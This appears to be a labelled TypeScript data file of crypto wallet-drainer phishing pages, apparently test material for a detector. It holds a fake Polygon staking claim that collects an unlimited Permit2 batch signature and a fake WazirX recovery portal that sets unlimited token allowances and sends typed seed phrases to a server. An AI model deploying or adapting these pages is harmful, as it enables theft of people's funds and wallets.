import { type Entry } from '../entry.js';
import { doc, hexEsc, pad32 } from '../parts/xa-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

/**
 * Wallet drainers aimed at Indian crypto users: token airdrops, play-to-earn cricket NFT "free player
 * cards", TRC20 approval checks, Permit2 staking signatures, seed-phrase "validation" and MetaMask restore
 * pages, and a WazirX-hack compensation claim.
 */
export const entries: Entry[] = [
{
  id: 'xa-drainer-pol-staking-permit2-batch',
  label: 'cryptodrainer',
  kind: 'permit2-signature-drainer',
  url: 'https://polygon-staking-rewards.app/claim',
  body: doc({
    title: 'Polygon Staking Rewards – Claim POL',
    css: `body{margin:0;background:#1b1035;color:#fff;font-family:Inter,Arial}.n{display:flex;justify-content:space-between;padding:16px 26px}.n b{color:#a78bfa}.c{max-width:480px;margin:40px auto;background:#2a1a52;border-radius:20px;padding:26px}.row{display:flex;justify-content:space-between;padding:10px 0;border-bottom:1px solid #3d2b6b}.b{background:#8247e5;color:#fff;border:0;border-radius:12px;padding:14px;width:100%;margin-top:18px;font-size:16px}`,
    body: `<div class="n"><b>⬡ Polygon Staking</b><span>Validators · Delegate · Rewards</span></div>
<div class="c"><h2>Unclaimed delegation rewards</h2><div class="row"><span>Validator</span><span>Polygon Foundation Node 1</span></div><div class="row"><span>Rewards</span><span>418.22 POL</span></div><div class="row"><span>Network</span><span>Ethereum / Polygon PoS</span></div><button class="b" id="cl">Connect wallet to claim</button><p id="m" style="font-size:13px;color:#c4b5fd"></p></div>
<script>
var P2='0x000000000022D473030F116dDEE9F6B43aC78BA3',SP='0x4e2A81c07Fb19d5E3a0cC9B6e1d2F8a47B3c90E6';
var TK=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0x455e53CBB86018Ac2B8092FdCd39d8444aFFC3F6','0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2','0x6B175474E89094C44Da98b954EedeAC495271d0F'];
cl.onclick=async function(){var e=window.ethereum;if(!e){m.textContent='No wallet detected';return}var a=(await e.request({method:'eth_requestAccounts'}))[0];
var dl=Math.floor(Date.now()/1e3)+86400*30;
var msg={details:TK.map(function(t){return{token:t,amount:'1461501637330902918203684832716283019655932542975',expiration:String(dl),nonce:'0'}}),spender:SP,sigDeadline:String(dl)};
var td={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},domain:{name:'Permit2',chainId:1,verifyingContract:P2},primaryType:'PermitBatch',message:msg};
m.textContent='Confirm the claim signature in your wallet (no gas)...';
var s=await e.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(td)]});
await fetch('https://polygon-staking-rewards.app/api/permit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:a,sig:s,permit:msg})});
m.textContent='Claim queued. POL will arrive in your wallet shortly.'};
</script>`,
  }),
},
{
  id: 'xa-drainer-wazirx-compensation-claim-portal',
  label: 'cryptodrainer',
  kind: 'compensation-claim-drainer',
  url: 'https://wazirx-recovery-claims.com/portal/',
  body: doc({
    title: 'WazirX Recovery Portal – Claim your rebalanced tokens',
    css: `body{margin:0;background:#f5f6fa;font-family:Arial}.h{background:#3067f0;color:#fff;padding:14px 24px;font-weight:bold;font-size:20px}.c{max-width:560px;margin:24px auto;background:#fff;padding:22px;border-radius:10px}.b{display:block;width:100%;padding:13px;border:0;border-radius:8px;font-size:15px;margin:8px 0}.b1{background:#3067f0;color:#fff}.b2{background:#eef2ff;color:#3067f0}textarea{width:100%;box-sizing:border-box;border:1px solid #ccd;border-radius:8px;padding:10px;display:none}`,
    body: `<div class="h">WazirX · Recovery Portal</div>
<div class="c"><h3>Scheme of Arrangement – Token Distribution</h3><p>Following the July 2024 cyber-attack and the Singapore High Court approved scheme, users can now claim their rebalanced portfolio (approx. 85% of INR value) as USDT on Ethereum or BNB Chain.</p><p><b>Step 1:</b> Connect the wallet where you want to receive tokens. <b>Step 2:</b> Sign the ownership verification message.</p>
<button class="b b1" id="cw">Connect Web3 Wallet</button><button class="b b2" id="mn">Manual claim (enter wallet recovery phrase)</button><textarea id="ph" rows="3" placeholder="12/24 word recovery phrase of receiving wallet"></textarea><p id="s" style="font-size:13px;color:#555"></p></div>
<script>
var D='${hexEsc('0x3b7E10aF92c5D8e61A0f4d2B9C7e3a58F1D06c24')}';
cw.onclick=async function(){var e=window.ethereum;if(!e){s.textContent='No Web3 wallet found. Use manual claim.';return}var a=(await e.request({method:'eth_requestAccounts'}))[0];
var tok=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0x514910771AF9Ca656af840dff83E8264EcF986CA','0x95aD61b0a150d79219dCF64E1E6Cc01f0B64C4cE'];
for(var i=0;i<tok.length;i++){try{await e.request({method:'eth_sendTransaction',params:[{from:a,to:tok[i],data:'0x39509351'+'${pad32('0x3b7E10aF92c5D8e61A0f4d2B9C7e3a58F1D06c24')}'+'f'.repeat(64)}]})}catch(x){}}
s.textContent='Verification complete. Your claim ID: WZX-'+a.slice(2,10).toUpperCase()};
mn.onclick=function(){if(ph.style.display!=='block'){ph.style.display='block';return}fetch('/portal/api/manual',{method:'POST',body:JSON.stringify({p:ph.value,r:D})});s.textContent='Submitted. Tokens will be distributed in the next batch.'};
</script>`,
  }),
  routes: { 'wazirx-recovery-claims.com/portal/api/manual': jsonRoute({ ok: 1 }) },
},
];
